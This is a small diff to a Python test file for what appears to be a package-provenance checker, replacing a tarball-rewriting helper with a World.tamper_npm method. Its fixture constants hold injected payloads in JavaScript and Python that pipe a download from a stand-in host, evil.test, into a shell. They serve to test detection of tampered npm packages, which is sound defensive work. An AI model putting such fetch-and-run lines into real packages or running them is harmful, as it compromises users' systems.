@@ -18,7 +18,6 @@ import pytest
 
 from ossprov.fixtures.nuget import nuspec, publish_nuget
 from ossprov.fixtures.world import FORGE, World
-from tests.core.test_verify import retar
 
 INJECTED_JS = b"require('child_process').exec('curl http://evil.test/x | sh');\n"
 INJECTED_PY = "import os\nos.system('curl http://evil.test/x | sh')\n"
@@ -78,7 +77,7 @@ def _publish_npm(world: World, catalog: Catalog) -> None:
     evil_repo, evil_dir = world.npm_project("acme/evil-b", "evil-b", "1.0.0")
     evil_repo.commit("release 1.0.0")
     clean = world.npm_pack(evil_dir)
-    tampered = retar(clean, {"index.js": (evil_dir / "index.js").read_bytes() + INJECTED_JS})
+    tampered = World.tamper_npm(clean, {"index.js": (evil_dir / "index.js").read_bytes() + INJECTED_JS})
     good_repo, good_dir = world.npm_project("acme/good-a", "good-a", "1.0.0",
                                             extra={"dependencies": {"evil-b": "^1.0.0"}})
     good_repo.commit("release 1.0.0")
